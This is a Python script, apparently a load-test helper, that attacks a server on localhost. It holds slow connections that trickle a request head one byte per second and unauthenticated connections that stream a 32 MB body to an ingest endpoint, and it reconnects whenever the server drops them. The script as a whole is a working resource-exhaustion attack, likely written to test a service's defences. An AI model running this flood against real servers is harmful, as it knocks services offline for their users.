"""Tokenless attack on 127.0.0.1:PORT until stdin closes: SLOW connections that trickle a request head one
byte per second, and BIG connections that announce a body of 33554431 bytes without a token and keep sending
it; a connection the server closes is replaced after RECONNECT seconds (argument 4, default 0: at once).
Prints "ready" once every connection is opened, and at the end how many connections it opened in all."""
import os, resource, selectors, socket, sys, time

port, slow, big = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
reconnect = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
pending = []  # (time, kind) of connections to open again
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
head = b"POST /api/v1/ingest/raw HTTP/1.1\r\nHost: x\r\nContent-Length: 33554431\r\n\r\n"
chunk = b"x" * 65536
sel = selectors.DefaultSelector()
opened = 0


def connect(kind):
    global opened
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", port))
    opened += 1
    state = {"kind": kind, "sent": 0}
    sel.register(s, selectors.EVENT_READ, state)
    return s, state


conns = [connect("slow") for _ in range(slow)] + [connect("big") for _ in range(big)]
print("ready", flush=True)
sel.register(sys.stdin, selectors.EVENT_READ, None)
next_trickle = time.monotonic()
done = False
while not done:
    for key, _ in sel.select(timeout=0.05):
        if key.data is None:
            if not os.read(sys.stdin.fileno(), 4096):
                done = True
            continue
        s = key.fileobj
        try:
            data = s.recv(65536)
        except OSError:
            data = b""
        if not data:  # closed by the server (answered, timed out or evicted): come back
            sel.unregister(s)
            s.close()
            conns = [c for c in conns if c[0] is not s]
            pending.append((time.monotonic() + reconnect, key.data["kind"]))
    now = time.monotonic()
    due = [p for p in pending if p[0] <= now]
    pending = [p for p in pending if p[0] > now]
    conns += [connect(kind) for _, kind in due]
    for s, state in conns:
        try:
            if state["kind"] == "big":
                if state["sent"] == 0:
                    s.send(head)
                    state["sent"] = len(head)
                else:
                    state["sent"] += s.send(chunk)
            elif now >= next_trickle and state["sent"] < len(head):
                s.send(head[state["sent"]:state["sent"] + 1])
                state["sent"] += 1
        except (BlockingIOError, OSError):
            pass
    if now >= next_trickle:
        next_trickle = now + 1.0
print("opened %d" % opened, flush=True)
